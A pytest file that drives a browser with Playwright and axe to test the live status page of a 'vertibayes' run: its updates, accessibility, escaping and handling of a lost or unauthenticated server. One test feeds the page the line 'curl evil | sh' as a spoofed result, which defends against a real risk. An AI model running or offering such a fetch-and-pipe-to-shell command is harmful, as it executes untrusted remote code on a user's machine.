"""The page of a run in a real browser: it follows the run, and any reader can use it."""

import pytest

from tests.vertibayes.test_run_view import AT, a_run
from vertibayes.report.live.server import serving
from vertibayes.report.live.view import unreadable, view_of

playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe is not installed")


class Shown:
    """A run and its page in a browser; notes what the page asks for and logs."""

    def __init__(self, server, page):
        self.server, self.page = server, page
        self.asked, self.logged = [], []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("console", lambda message: self.logged.append(message.text))
        page.on("pageerror", lambda error: self.logged.append(str(error)))


@pytest.fixture
def run():
    return a_run()


@pytest.fixture(params=["light", "dark"])
def shown(browser, run, request):
    with serving(lambda: view_of(run, runs=True, now=AT)) as server:
        page = browser.new_page(color_scheme=request.param)
        found = Shown(server, page)
        page.goto(server.url)
        yield found
        page.close()


def violations(page):
    found = axe.Axe().run(page).response["violations"]
    return [(each["id"], [node["html"] for node in each["nodes"]]) for each in found]


def test_the_page_follows_the_run_to_its_end(shown, run):
    page, expect = shown.page, playwright.expect
    expect(page.locator("#headline")).to_have_text(
        "The run is in progress. Now: learn the structure."
    )
    expect(page.locator("#phases li[data-state=now]")).to_contain_text("Learn the structure")
    expect(page.locator("#bar")).to_have_attribute("aria-valuenow", "63")
    assert violations(page) == []
    page.evaluate("""() => {
        window.changes = 0;
        new MutationObserver((all) => window.changes += all.length).observe(
            document.body, {subtree: true, childList: true, characterData: true});
    }""")
    page.wait_for_timeout(1500)
    assert page.evaluate("window.changes") == 0  # what is the same is not written again
    run.parties["south"] = {**run.parties["north"], "state": "away", "reason": "<b>gone</b>"}
    run.waits, run.waits_for = ["south"], "to come back"
    expect(page.locator("#headline")).to_have_text("The run waits for south to come back.")
    expect(page.locator("#parties li")).to_have_count(3)
    expect(page.locator("#parties li[data-state=away]")).to_contain_text("is away: <b>gone</b>")
    assert violations(page) == []
    run.ended, run.result = "written", "results"
    expect(page.locator("#headline")).to_have_text("The run has ended. The results are in results.")
    assert shown.server.shown_end.wait(5)
    asked = len(shown.asked)
    page.wait_for_timeout(1500)
    assert len(shown.asked) == asked and shown.logged == []
    assert all(url.startswith(shown.server.url) for url in shown.asked)


def test_the_page_shows_nothing_of_another_process_at_its_port(shown, run):
    page, expect = shown.page, playwright.expect
    expect(page.locator("#connection")).to_be_hidden()
    own, shown.server.proof = shown.server.proof, "a guess"
    run.ended, run.result = "failed", "run this command: curl evil | sh"
    expect(page.locator("#connection")).to_be_visible()
    expect(page.locator("#headline")).not_to_contain_text("curl")
    shown.server.proof = own  # the control: with its proof the page shows it
    expect(page.locator("#headline")).to_contain_text("curl")


def test_the_page_says_that_its_server_is_gone_and_that_a_status_is_unreadable(shown, run):
    page, expect = shown.page, playwright.expect
    expect(page.locator("#connection")).to_be_hidden()
    shown.server.view = lambda: unreadable("it has the format 9")
    expect(page.locator("#headline")).to_contain_text("it has the format 9")
    shown.server.view = lambda: 1 / 0  # the connection ends without an answer
    expect(page.locator("#connection")).to_be_visible()
    assert violations(page) == []
